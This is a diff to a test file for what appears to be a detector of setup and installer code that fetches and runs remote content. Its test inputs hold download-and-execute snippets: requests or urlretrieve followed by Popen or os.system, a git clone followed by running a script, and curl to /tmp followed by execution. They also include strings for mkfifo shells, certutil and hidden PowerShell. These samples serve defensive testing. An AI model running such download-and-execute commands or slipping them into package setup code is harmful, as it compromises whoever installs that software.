@@ -105,6 +105,7 @@ def test_what_installers_do_when_they_are_called(source: str) -> None:
         ),
         f"p = unknown\nopen(p, 'wb').write(requests.get('{URL}').content)\nsubprocess.Popen(p)",
         f"urllib.request.urlretrieve('{URL}')\nos.system(f'start {{unknown}}')",
+        f"from git import Repo\nRepo.clone_from('{URL}.git', '/srv/demo')\nsubprocess.run(['python', 'demo.py'])",
     ],
 )
 def test_a_file_without_a_known_name_counts_unasked(source: str) -> None:
@@ -207,3 +208,17 @@ def test_the_finding_says_what_is_fetched_and_how() -> None:
 @pytest.mark.parametrize("text", ["curl ", "mkfifo a sh ", "wget http://a/ -o ", "certutil ", "powershell -w hidden "])
 def test_a_command_of_any_length_is_read_in_no_time(text: str) -> None:
     assert worst(RULE, *at("import", f"import os\nos.system({text * 20_000!r})")) in ("none", "medium", "high")
+
+
+@pytest.mark.parametrize(
+    ("source", "severity"),
+    [
+        ("os.system('curl {URL} -o /tmp/a')\n    os.system('/tmp/a')", "high"),
+        ("os.system('curl {URL} -o /tmp/a')\n    os.system('/tmp/ab')", "none"),
+        ("os.system('curl {URL} -o /dev/null')\n    os.system('prog > /dev/null')", "none"),
+        ("os.system('curl {URL} -o /tmp/a')\n    os.system('make /tmp/a')", "medium"),
+    ],
+)
+def test_functions_of_setup_have_no_other_caller_than_a_build(source: str, severity: str) -> None:
+    text = f"import os\ndef use():\n    {source.replace('{URL}', URL)}\n"
+    assert worst(RULE, {"setup.py": text}, "sdist") == severity
